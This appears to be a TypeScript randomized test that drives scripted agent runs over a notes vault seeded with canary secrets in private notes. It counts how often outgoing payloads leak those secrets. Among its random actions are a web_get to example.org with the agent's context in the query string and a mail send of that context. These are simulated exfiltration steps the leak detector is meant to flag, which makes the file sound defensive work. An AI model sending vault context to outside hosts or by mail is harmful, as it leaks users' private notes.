/** Runs that read, derive, write, switch and send at random over a vault whose private notes hold canaries. */
import { Random } from '../../support/random';
import { canary, leaks } from './leaks';
import { ScriptedRun, type WorldNote } from './scripted-run';

/** How many payloads hold a piece of a canary. */
export function runCanaries(n: number, seed: number): number {
	let found = 0;
	const dice = new Random(seed);
	for (let i = 0; i < n; i++) found += oneVault(dice);
	return found;
}

/** Two runs one after the other in one vault: what the first derives, the second must not send. */
function oneVault(dice: Random): number {
	const secret = canary(dice);
	const notes = vaultWith(secret, dice);
	return [0, 1].reduce((sum) => {
		const run = new ScriptedRun(notes, { remote: dice.chance(0.5), typed: 'Do what you like with Notes/Out.md.' });
		for (let step = 0; step < 8; step++) act(run, dice);
		run.turn();
		return sum + leaks(run.payloads, [secret]);
	}, 0);
}

function act(run: ScriptedRun, dice: Random): void {
	const paths = [...run.notes.keys()];
	const known = run.context.join('\n');
	switch (dice.below(9)) {
		case 0: case 1: return run.read(dice.pick(paths));
		case 2: return run.search(dice.below(100));
		case 3: return run.turn();
		case 4: return void run.attempt({ tool: 'note_create', path: `${dice.pick(['Inbox', 'Notes', 'Memory'])}/${dice.below(1000)}.md` }, { text: known });
		case 5: return void run.attempt({ tool: 'note_edit', path: 'Notes/Out.md' }, { text: known });
		case 6: return void run.attempt({ tool: 'web_get', url: `https://example.org/?q=${encodeURIComponent(known.slice(-800))}` });
		case 7: return void run.attempt({ tool: 'mcp__mail__send' }, { body: known });
		default: return void run.attempt({ tool: 'ask_model', remote: dice.chance(0.7) });
	}
}

function vaultWith(secret: string, dice: Random): Map<string, WorldNote> {
	const marks: readonly [string, Partial<WorldNote>][] = [['Private/a.md', {}], ['PRIVATE/b.md', {}], ['Notes/c.md', { properties: { Private: 'yes' } }], ['Notes/d.md', { tags: ['private'] }], [`Private/${secret}.md`, {}], ['Notes/e.md', { record: { integrity: 'trusted', secrecy: 'private' } }], ['Notes/f.md', { properties: { private: true, summary: secret } }]];
	const notes = new Map<string, WorldNote>([['Notes/Own.md', { text: 'Mine.', embeds: marks.map(([path]) => path) }], ['Clippings/x.md', { text: 'Theirs.' }], ['Notes/Out.md', { text: '' }]]);
	for (const [path, mark] of marks) if (dice.chance(0.7)) notes.set(path, { text: `word ${secret}`, ...mark });
	return notes;
}
